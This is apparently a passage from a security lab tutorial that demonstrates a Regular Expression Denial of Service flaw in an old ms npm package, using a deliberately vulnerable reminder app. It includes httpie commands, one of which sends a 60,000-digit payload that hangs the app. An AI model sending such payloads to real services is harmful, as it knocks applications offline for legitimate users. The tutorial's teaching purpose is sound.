Example 3
Our third example vulnerability is with the ms npm package. This is a module that allows easy conversion of various time formats into milliseconds. The issue here is that we are using [email protected] and this has a Regular Expression Denial of Service (ReDos) vulnerability.
What this package allows us to do is to take a string input and parse into milliseconds which ourapplication will then use to send a reminder. For example:
To demonstrate this vulnerability, we will move to the terminal. Let's run the following command against our application:
echo 'content=Reboot server in 20 minutes' | http --form $GOOF_HOST/create -v
result will be console output similar to this:
POST /create HTTP/1.1
Accept: */*
Accept-Encoding: gzip, deflate
Connection: keep-alive
Content-Length: 36
Content-Type: application/x-www-form-urlencoded; charset=utf-8
Host: elb.amazonaws.com
User-Agent: HTTPie/2.1.0
content=Reboot server in 20 minutes
HTTP/1.1 302 Found
Connection: keep-aliveContent-Length: 28
Content-Type: text/html; charset=utf-8
Date: Sat, 13 Jun 2020 21:20:16 GMT
ETag: W/"1c-41a86905"
Location: /
Vary: X-HTTP-Method-Override
X-Powered-By: Express
A corresponding web result will look like this:
Now we will take the previous command but print the digit 5 a total of 60,000 times. This regular expression will take a non-linear amount of time to process an input. The longer the input, the longer the processing time. Let's run the following command
echo 'content=Reboot server in '\`printf "%.0s5" {1..60000}\`' minutes' | http --form $GOOF_HOST/create -v
The result here was surprisingly fast. However, what happens when the regular expression does notmatch? To illustratethis, let's take the same command and swap the s in minutes for an a instead. Type the following command:
echo 'content=Reboot server in '\`printf "%.0s5" {1..60000}\`' minutea' | http --form $GOOF_HOST/create -v
This command will take a while to process and result in a non-responsive application. If you try to add or remove tasks the application will not respond and you have blockedlegitimate requests from processing.
Last modified 1mo ago
Export as PDFCopy link
Edit on GitHub